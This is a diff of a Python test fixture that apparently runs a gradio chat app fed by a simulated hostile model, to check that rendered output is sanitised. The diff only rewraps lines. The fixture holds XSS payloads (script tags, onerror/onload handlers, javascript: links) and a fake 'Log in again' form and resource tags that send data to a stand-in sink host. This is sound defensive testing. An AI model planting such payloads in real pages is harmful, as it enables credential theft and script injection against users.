@@ -1,5 +1,6 @@
-"""Our app with a model that answers whatever the worst one could, and an upload limit that a test can reach; and a plain gradio
-app for the same attacks. Each in a process of its own: `python -m tests.kit.hostile_app ours|plain PORT [WORKSPACE]`.
+"""Our app with a model that answers whatever the worst one could, and an upload limit that a test can reach; and a
+plain gradio app for the same attacks. Each in a process of its own: `python -m tests.kit.hostile_app ours|plain PORT
+[WORKSPACE]`.
 """
 
 from __future__ import annotations
@@ -15,10 +16,14 @@ def answers(sink: str) -> dict[str, str]:
     """What a hostile model writes, by what it is asked. sink: a server that must never hear of it."""
     return {
         "image": f"![x]({sink}/markdown.png) <img src='{sink}/tag.png'> <img src=x onerror=\"window.ran='onerror'\">",
-        "script": f"<script>window.ran='script'</script><script src='{sink}/s.js'></script><svg onload=\"window.ran='svg'\"></svg>"
-        "<iframe srcdoc=\"<script>parent.ran='iframe'</script>\"></iframe><a href=\"javascript:window.ran='link'\">click</a>",
-        "form": f"<form action='{sink}/form' method=post><input name=password value=secret><button>Log in again</button></form>"
-        f"<link rel=stylesheet href='{sink}/l.css'><style>@import '{sink}/i.css';</style><object data='{sink}/o'></object>",
+        "script": f"<script>window.ran='script'</script><script src='{sink}/s.js'></script><svg "
+        f"onload=\"window.ran='svg'\"></svg>"
+        "<iframe srcdoc=\"<script>parent.ran='iframe'</script>\"></iframe><a "
+        "href=\"javascript:window.ran='link'\">click</a>",
+        "form": f"<form action='{sink}/form' method=post><input name=password value=secret><button>Log in "
+        f"again</button></form>"
+        f"<link rel=stylesheet href='{sink}/l.css'><style>@import '{sink}/i.css';</style><object "
+        f"data='{sink}/o'></object>",
         "fences": "```html\n<script>window.ran='fence'</script>\n````\n```\n~~~\n" + "```python\n" * 50,
         "surrogates": "half \ud83d of \udc4d a character \x00\x07\u202e backwards",
         "long": ("a word of the hundred thousand, " * 4 + "<b>\n\n") * 4000,  # about 100,000 tokens
@@ -82,7 +87,8 @@ def ours(port: str, workspace: str, sink: str) -> int:
 
 
 def plain(port: str, sink: str) -> None:
-    """gradio as it comes, with what people write first: a text that goes to a component of each kind, and a page with a login."""
+    """gradio as it comes, with what people write first: a text that goes to a component of each kind, and a page with a
+    login."""
     import gradio as gr
 
     with gr.Blocks(analytics_enabled=False) as demo:
@@ -94,7 +100,9 @@ def plain(port: str, sink: str) -> None:
         }
         for name, component in shown.items():
             gr.Button(name, elem_id=f"go-{name}").click(
-                (lambda text: [{"role": "assistant", "content": answers(sink).get(text, text)}]) if name == "chatbot" else str,
+                (lambda text: [{"role": "assistant", "content": answers(sink).get(text, text)}])
+                if name == "chatbot"
+                else str,
                 said,
                 component,
                 api_visibility="private",
